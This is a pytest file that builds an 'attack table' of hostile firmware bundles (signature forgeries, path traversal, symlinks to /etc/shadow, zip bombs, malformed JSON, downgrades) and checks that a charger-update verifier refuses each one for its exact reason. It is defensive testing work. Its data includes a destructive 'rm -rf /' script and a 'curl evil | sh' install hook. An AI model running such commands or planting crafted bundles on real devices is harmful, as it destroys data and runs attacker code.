"""Attack table: every way to subvert a bundle, each refused for its own reason.

Each case builds a hostile bundle (or verification context) and names the
check that must fail and the exact code it must fail with. A case refused for
the wrong reason fails the test: a bundle rejected "by accident" today can be
accepted after tomorrow's refactor.
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

from fieldkit.bundles.container import BundleContainer
from fieldkit.bundles.keys import P256_ORDER
from fieldkit.bundles.verify import ChargerFacts
from fieldkit.config import Limits, Settings
from tests.support.bundle_lab import EXPIRES, NOW, BundleLab, iso, with_components
from tests.support.zipcraft import RawEntry, craft_zip

AC22_C = ChargerFacts(model="VQ-AC22", hardware_revision="C", installed_version="2.3.0", installed_security_version=4)


@dataclass
class Attack:
    build: Callable[[BundleLab], Path]
    check: str
    code: str
    facts: ChargerFacts | None = None
    now: dt.datetime = NOW
    settings: Settings | None = None
    store: Callable[[BundleLab], Any] | None = None
    extra: dict[str, Any] = field(default_factory=dict)


def _flip(path: Path, offset: int) -> Path:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))
    return path


def _member_offset(path: Path, name: str) -> int:
    return BundleContainer.open(path, Limits()).members[name].data_offset


def _members(path: Path) -> dict[str, bytes]:
    container = BundleContainer.open(path, Limits())
    raw = path.read_bytes()
    return {m.name: raw[m.data_offset : m.data_offset + m.size_bytes] for m in container.members.values()}


def _rebuild(w: BundleLab, members: list[tuple[str, bytes]], **entry_options: Any) -> Path:
    """Write ``members`` as a (possibly non-canonical) ZIP, recomputing CRCs like an attacker would."""
    w._counter += 1
    path = w.dir / f"crafted-{w._counter}.fwbundle"
    path.write_bytes(craft_zip([RawEntry(n, d, **entry_options.get(n, {})) for n, d in members]))
    return path


def tampered_payload(w: BundleLab) -> Path:
    path = w.bundle()
    return _flip(path, _member_offset(path, "payloads/rootfs") + 100)


def tampered_manifest(w: BundleLab) -> Path:
    members = _members(w.bundle())
    manifest = members["manifest.json"].replace(b'"security_version": 5', b'"security_version": 9')
    return _rebuild(
        w,
        [
            ("manifest.json", manifest),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", members["signatures.json"]),
        ],
    )


def _ecdsa_signature_rewritten(rewrite: Callable[[int, int], bytes]) -> Callable[[BundleLab], Path]:
    """A bundle signed by the ECDSA release key whose signature is re-encoded by ``rewrite(r, s)``: still valid
    ECDSA for the same manifest, but not the one encoding fieldkit signs and accepts."""

    def build(w: BundleLab) -> Path:
        from fieldkit.bundles.signatures import SignaturesFile, encode_signatures

        members = _members(w.bundle(signers=[w.release_ec]))
        entries = SignaturesFile.model_validate_json(members["signatures.json"]).signatures
        r, s = decode_dss_signature(base64.b64decode(entries[0].signature))
        changed = entries[0].model_copy(update={"signature": base64.b64encode(rewrite(r, s)).decode("ascii")})
        return _rebuild(w, [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", encode_signatures([changed])),
        ])  # fmt: skip

    return build


def _der_with_padded_s(r: int, s: int) -> bytes:
    """The same (r, s) in BER that strict DER forbids: S with a superfluous leading zero byte."""
    r_bytes = encode_dss_signature(r, s)[4 : 4 + encode_dss_signature(r, s)[3]]
    s_bytes = b"\x00" + s.to_bytes((s.bit_length() + 8) // 8, "big")
    body = b"\x02" + bytes([len(r_bytes)]) + r_bytes + b"\x02" + bytes([len(s_bytes)]) + s_bytes
    return b"\x30" + bytes([len(body)]) + body


def manifest_byte_flipped_raw(w: BundleLab) -> Path:
    path = w.bundle()
    return _flip(path, _member_offset(path, "manifest.json") + 10)


def missing_signatures(w: BundleLab) -> Path:
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
        ],
    )


def copied_signature(w: BundleLab) -> Path:
    other = _members(w.bundle(version="9.9.9", bundle_id="other"))
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", other["signatures.json"]),
        ],
    )


def manifest_swapped(w: BundleLab) -> Path:
    evil = _members(w.bundle(payloads={"rootfs": b"EVILFS" * 1000}))
    good = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", good["manifest.json"]),
            ("payloads/rootfs", evil["payloads/rootfs"]),
            ("signatures.json", good["signatures.json"]),
        ],
    )


def payload_swapped(w: BundleLab) -> Path:
    other = _members(w.bundle(payloads={"rootfs": b"OTHERS" * 1000}))
    path = w.bundle()
    data = bytearray(path.read_bytes())
    offset = _member_offset(path, "payloads/rootfs")
    data[offset : offset + 6000] = other["payloads/rootfs"]
    path.write_bytes(bytes(data))
    return path


def with_extra_member(name: str, data: bytes = b"#!/bin/sh\nrm -rf /\n") -> Callable[[BundleLab], Path]:
    def build(w: BundleLab) -> Path:
        members = _members(w.bundle())
        return _rebuild(
            w,
            [
                ("manifest.json", members["manifest.json"]),
                (name, data),
                ("payloads/rootfs", members["payloads/rootfs"]),
                ("signatures.json", members["signatures.json"]),
            ],
        )

    return build


def unreferenced_payload(w: BundleLab) -> Path:
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/extra", b"x"),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", members["signatures.json"]),
        ],
    )


def duplicate_member(w: BundleLab) -> Path:
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("payloads/rootfs", b"second copy"),
            ("signatures.json", members["signatures.json"]),
        ],
    )


def symlink_member(w: BundleLab) -> Path:
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", b"/etc/shadow"),
            ("signatures.json", members["signatures.json"]),
        ],
        **{"payloads/rootfs": {"external_attr": (0o120777 << 16)}},
    )


def deflate_bomb(w: BundleLab) -> Path:
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", b"\0" * 20_000_000),
            ("signatures.json", members["signatures.json"]),
        ],
        **{"payloads/rootfs": {"method": 8}},
    )


def compressed_payload(w: BundleLab) -> Path:
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", members["signatures.json"]),
        ],
        **{"payloads/rootfs": {"method": 8}},
    )


def declared_size_bomb(w: BundleLab) -> Path:
    members = _members(w.bundle())
    path = _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", members["signatures.json"]),
        ],
    )
    # Patch the directory entry of the payload to claim 4 GiB stored in a 6 kB file.
    data = bytearray(path.read_bytes())
    cd_offset = struct.unpack_from("<I", data, len(data) - 6)[0]
    position = cd_offset
    for _ in range(3):
        name_len = struct.unpack_from("<H", data, position + 28)[0]
        if data[position + 46 : position + 46 + name_len] == b"payloads/rootfs":
            struct.pack_into("<II", data, position + 20, 0xFFFFFFF0, 0xFFFFFFF0)
        position += 46 + name_len
    path.write_bytes(bytes(data))
    return path


def overlapping_bomb(w: BundleLab) -> Path:
    members = _members(w.bundle())
    entries = [
        RawEntry("manifest.json", members["manifest.json"]),
        RawEntry("payloads/rootfs", members["payloads/rootfs"]),
        RawEntry(
            "payloads/alias",
            members["payloads/rootfs"],
            offset_override=len(members["manifest.json"]) + 43,
        ),
        RawEntry("signatures.json", members["signatures.json"]),
    ]
    w._counter += 1
    path = w.dir / f"overlap-{w._counter}.fwbundle"
    path.write_bytes(craft_zip(entries))
    return path


def truncated(w: BundleLab) -> Path:
    path = w.bundle()
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def not_a_zip(w: BundleLab) -> Path:
    path = w.dir / "not-a-zip.fwbundle"
    path.write_bytes(b"\x7fELF" + b"\0" * 4000)
    return path


def empty(w: BundleLab) -> Path:
    path = w.dir / "empty.fwbundle"
    path.write_bytes(b"")
    return path


def trailing_data(w: BundleLab) -> Path:
    path = w.bundle()
    path.write_bytes(path.read_bytes() + b"hidden")
    return path


def prepended_data(w: BundleLab) -> Path:
    path = w.bundle()
    path.write_bytes(b"MZ" + path.read_bytes())
    return path


def crc_field_altered(w: BundleLab) -> Path:
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", members["signatures.json"]),
        ],
        **{"payloads/rootfs": {"crc": zlib.crc32(members["payloads/rootfs"]) ^ 1}},
    )


def encrypted_member(w: BundleLab) -> Path:
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", members["signatures.json"]),
        ],
        **{"payloads/rootfs": {"flags": 1}},
    )


def non_canonical_signatures(w: BundleLab) -> Path:
    members = _members(w.bundle())
    pretty = json.dumps(json.loads(members["signatures.json"]), indent=1).encode()
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", pretty),
        ],
    )


def _hostile_signatures(w: BundleLab, text: bytes) -> Path:
    members = _members(w.bundle())
    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", text),
        ],
    )


def signatures_huge_integer(w: BundleLab) -> Path:
    """A 5,000-digit number: Python's own int() limit raised an error nobody caught (exit 70)."""
    return _hostile_signatures(w, b'{"schema": "fieldkit-signatures", "schema_version": ' + b"7" * 5000 + b"}")


def signatures_escaped_quotes(w: BundleLab) -> Path:
    """256 KB of escaped quotes in an unterminated string: the depth scan took minutes on it."""
    return _hostile_signatures(w, b'{"a": "' + b'\\"' * (128 * 1024 - 8))


def manifest_too_large(w: BundleLab) -> Path:
    payloads = {"rootfs": b"x" * 10}
    document = w.manifest(payloads, release_notes="A" * (1024 * 1024 + 10))
    return w.bundle(payloads=payloads, manifest=document)


def deeply_nested(w: BundleLab) -> Path:
    payloads = {"rootfs": b"x" * 10}
    raw = json.dumps(w.manifest(payloads)).encode()
    raw = raw[:-1] + b', "x": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    return w.bundle(payloads=payloads, manifest_bytes=raw)


def duplicate_json_key(w: BundleLab) -> Path:
    payloads = {"rootfs": b"x" * 10}
    raw = json.dumps(w.manifest(payloads)).encode()
    raw = raw[:-1] + b', "security_version": 99}'
    return w.bundle(payloads=payloads, manifest_bytes=raw)


def unknown_schema(w: BundleLab) -> Path:
    return w.bundle(schema_version=3)


def unknown_field(w: BundleLab) -> Path:
    payloads = {"rootfs": b"x" * 10}
    document = w.manifest(payloads)
    document["post_install_hook"] = "curl evil | sh"
    return w.bundle(payloads=payloads, manifest=document)


def metrology_without_countersignature(w: BundleLab) -> Path:
    payloads = {"meter": b"M" * 100}
    return w.bundle(payloads=payloads, manifest=with_components(w.manifest(payloads), metrology_relevant=True))


def x509_chain(leaf_key_attr: str, leaf_attr: str, **manifest: Any) -> Callable[[BundleLab], Path]:
    def build(w: BundleLab) -> Path:
        leaf_key, leaf = getattr(w, leaf_key_attr), getattr(w, leaf_attr)
        return w.bundle(signers=[leaf_key], chains={0: [leaf]}, **manifest)

    return build


def ocpp_mismatch(w: BundleLab) -> Path:
    payloads = {"app": b"FIRMWARE" * 100}
    document = with_components(w.manifest(payloads), ocpp=w.ocpp_block(b"OTHER FIRMWARE"))
    return w.bundle(payloads=payloads, manifest=document)


def ocpp_untrusted(w: BundleLab) -> Path:
    payloads = {"app": b"FIRMWARE" * 100}
    block = w.ocpp_block(payloads["app"], key=w.rogue_leaf_key, cert=w.rogue_leaf)
    return w.bundle(payloads=payloads, manifest=with_components(w.manifest(payloads), ocpp=block))


def signed_by(*attrs: str) -> Callable[[BundleLab], Path]:
    return lambda w: w.bundle(signers=[getattr(w, a) for a in attrs])


def wrong_algorithm_label(w: BundleLab) -> Path:
    members = _members(w.bundle())
    doc = json.loads(members["signatures.json"])
    doc["signatures"][0]["algorithm"] = "ecdsa-p256-sha256"
    import rfc8785

    return _rebuild(
        w,
        [
            ("manifest.json", members["manifest.json"]),
            ("payloads/rootfs", members["payloads/rootfs"]),
            ("signatures.json", rfc8785.dumps(doc)),
        ],
    )


ATTACKS: dict[str, Attack] = {
    "tampered payload byte": Attack(tampered_payload, "payloads", "payload-hash-mismatch"),
    "tampered manifest byte (CRC recomputed)": Attack(tampered_manifest, "signatures", "bad-signature"),
    "manifest byte flipped raw": Attack(manifest_byte_flipped_raw, "container", "crc-mismatch"),
    "signatures.json missing": Attack(missing_signatures, "container", "missing-signatures"),
    "unsigned bundle": Attack(signed_by(), "signatures", "unsigned"),
    "signature by unknown key": Attack(signed_by("unknown"), "signatures", "unknown-key"),
    "signature by revoked key": Attack(signed_by("revoked"), "signatures", "revoked-key"),
    "signature by expired key": Attack(signed_by("expired"), "signatures", "expired-key"),
    "signature by key not yet valid": Attack(signed_by("future"), "signatures", "key-not-yet-valid"),
    "key out of scope": Attack(signed_by("ampero_only"), "authorization", "out-of-scope"),
    "threshold not met": Attack(
        signed_by("release"),
        "signatures",
        "threshold-not-met",
        store=lambda w: w.store_with(thresholds={"trust-root": 1, "release": 2, "metrology": 1}),
    ),
    "signature copied from another bundle": Attack(copied_signature, "signatures", "bad-signature"),
    "algorithm label swapped": Attack(wrong_algorithm_label, "signatures", "algorithm-mismatch"),
    "manifest swapped between bundles": Attack(manifest_swapped, "payloads", "payload-hash-mismatch"),
    "payload swapped": Attack(payload_swapped, "payloads", "payload-hash-mismatch"),
    "extra member": Attack(with_extra_member("install.sh"), "container", "unexpected-member"),
    "extra payload not in manifest": Attack(unreferenced_payload, "payloads", "unreferenced-payload"),
    "duplicate member names": Attack(duplicate_member, "container", "duplicate-member"),
    "path traversal ../": Attack(with_extra_member("payloads/../../etc/cron.d/x"), "container", "path-traversal"),
    "absolute path": Attack(with_extra_member("/etc/passwd"), "container", "absolute-path"),
    "backslash path": Attack(with_extra_member("payloads\\..\\evil"), "container", "backslash-in-name"),
    "drive letter": Attack(with_extra_member("C:/Windows/evil.dll"), "container", "drive-letter"),
    "symlink entry": Attack(symlink_member, "container", "symlink-member"),
    "zip bomb (deflate)": Attack(deflate_bomb, "container", "compressed-member"),
    "zip bomb (declared size)": Attack(declared_size_bomb, "container", "member-out-of-bounds"),
    "zip bomb (overlapping members)": Attack(overlapping_bomb, "container", "overlapping-members"),
    "compressed payload": Attack(compressed_payload, "container", "compressed-member"),
    "encrypted member": Attack(encrypted_member, "container", "encrypted-member"),
    "CRC field altered": Attack(crc_field_altered, "payloads", "crc-mismatch"),
    "truncated file": Attack(truncated, "container", "truncated"),
    "not a zip": Attack(not_a_zip, "container", "not-a-zip"),
    "empty file": Attack(empty, "container", "empty"),
    "trailing data": Attack(trailing_data, "container", "trailing-data"),
    "prepended data": Attack(prepended_data, "container", "prepended-data"),
    "non-canonical signatures.json": Attack(non_canonical_signatures, "signatures", "signatures-non-canonical"),
    "5,000-digit number in signatures.json": Attack(
        signatures_huge_integer, "signatures", "signatures-number-too-long"
    ),
    "escaped quotes in signatures.json": Attack(signatures_escaped_quotes, "signatures", "signatures-invalid-json"),
    "manifest too large": Attack(manifest_too_large, "manifest", "manifest-too-large"),
    "deeply nested JSON": Attack(deeply_nested, "manifest", "manifest-too-deep"),
    "duplicate JSON key": Attack(duplicate_json_key, "manifest", "manifest-duplicate-key"),
    "unknown schema version": Attack(unknown_schema, "manifest", "unknown-schema-version"),
    "unknown manifest field": Attack(unknown_field, "manifest", "manifest-invalid"),
    # One document, one reading: no coercion between JSON types, no times outside 1970..9000.
    "security_version as a string": Attack(lambda w: w.bundle(security_version="5"), "manifest", "manifest-invalid"),
    "security_version as a float": Attack(lambda w: w.bundle(security_version=5.0), "manifest", "manifest-invalid"),
    "security_version as a boolean": Attack(lambda w: w.bundle(security_version=True), "manifest", "manifest-invalid"),
    "metrology_relevant as a string": Attack(
        lambda w: w.bundle({"rootfs": b"R"}, with_components(w.manifest({"rootfs": b"R"}), metrology_relevant="false")),
        "manifest",
        "manifest-invalid",
    ),
    "size_bytes as a string": Attack(
        lambda w: w.bundle({"rootfs": b"R"}, with_components(w.manifest({"rootfs": b"R"}), size_bytes="1")),
        "manifest",
        "manifest-invalid",
    ),
    "created_at in year 1": Attack(
        lambda w: w.bundle(created_at="0001-01-01T00:00:00Z"), "manifest", "manifest-invalid"
    ),
    "created_at as seconds since 1970": Attack(
        lambda w: w.bundle(created_at=int(NOW.timestamp())), "manifest", "manifest-invalid"
    ),
    "expires_at in year 9999": Attack(
        lambda w: w.bundle(expires_at="9999-12-31T23:59:59Z"), "manifest", "manifest-invalid"
    ),
    "expired bundle": Attack(lambda w: w.bundle(), "freshness", "expired", now=EXPIRES + dt.timedelta(days=31)),
    "not yet valid beyond skew": Attack(
        lambda w: w.bundle(created_at=iso(NOW + dt.timedelta(hours=2))),
        "freshness",
        "not-yet-valid",
    ),
    "downgrade below security_version": Attack(
        lambda w: w.bundle(security_version=3), "anti-rollback", "downgrade", facts=AC22_C
    ),
    "wrong model": Attack(
        lambda w: w.bundle(),
        "compatibility",
        "wrong-model",
        facts=ChargerFacts(model="VQ-DC150", hardware_revision="A"),
    ),
    "wrong hardware revision": Attack(
        lambda w: w.bundle(),
        "compatibility",
        "wrong-hardware-revision",
        facts=ChargerFacts(model="VQ-AC22", hardware_revision="A"),
    ),
    "installed version below minimum": Attack(
        lambda w: w.bundle(),
        "compatibility",
        "installed-version-too-old",
        facts=ChargerFacts(model="VQ-AC22", hardware_revision="C", installed_version="1.9.9"),
    ),
    "metrology component without metrology signature": Attack(
        metrology_without_countersignature, "authorization", "metrology-signature-missing"
    ),
    "X.509 chain to an unpinned root": Attack(
        x509_chain("rogue_leaf_key", "rogue_leaf"), "signatures", "untrusted-chain"
    ),
    "X.509 leaf without codeSigning": Attack(
        x509_chain("oem_tls_key", "oem_tls_leaf"), "signatures", "certificate-usage"
    ),
    "certificate not valid at signing time": Attack(
        x509_chain("oem_old_key", "oem_old_leaf"),
        "authorization",
        "certificate-not-valid-at-signing-time",
    ),
    "ECDSA signature with a high S": Attack(
        _ecdsa_signature_rewritten(lambda r, s: encode_dss_signature(r, P256_ORDER - s)), "signatures", "bad-signature"
    ),
    "ECDSA signature in non-strict DER": Attack(
        _ecdsa_signature_rewritten(_der_with_padded_s), "signatures", "bad-signature"
    ),
    "certificate chain padded with an unrelated certificate": Attack(
        lambda w: w.bundle(signers=[w.oem_leaf_key], chains={0: [w.oem_leaf, w.oem_tls_leaf]}),
        "signatures",
        "non-minimal-chain",
    ),
    "certificate chain carrying its root": Attack(
        lambda w: w.bundle(signers=[w.oem_leaf_key], chains={0: [w.oem_leaf, w.oem_ca]}),
        "signatures",
        "non-minimal-chain",
    ),
    "OCPP signature mismatch": Attack(ocpp_mismatch, "ocpp-signatures", "ocpp-signature-mismatch"),
    "OCPP certificate from an unpinned root": Attack(ocpp_untrusted, "ocpp-signatures", "ocpp-certificate-untrusted"),
}


def test_the_table_is_big_enough() -> None:
    assert len(ATTACKS) >= 30


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_is_refused_for_its_reason(lab: BundleLab, name: str) -> None:
    attack = ATTACKS[name]
    path = attack.build(lab)
    store = attack.store(lab) if attack.store else None
    report = lab.verify(path, attack.facts, store=store, now=attack.now, settings=attack.settings)
    failure = report.failure
    assert failure is not None, f"{name}: accepted"
    assert (failure.name, failure.code) == (attack.check, attack.code), f"{name}: {failure}"
    assert failure.message and failure.hint
    # Nothing after a failure is reported as passed.
    after = report.checks[report.checks.index(failure) + 1 :]
    assert all(c.status == "skipped" for c in after)
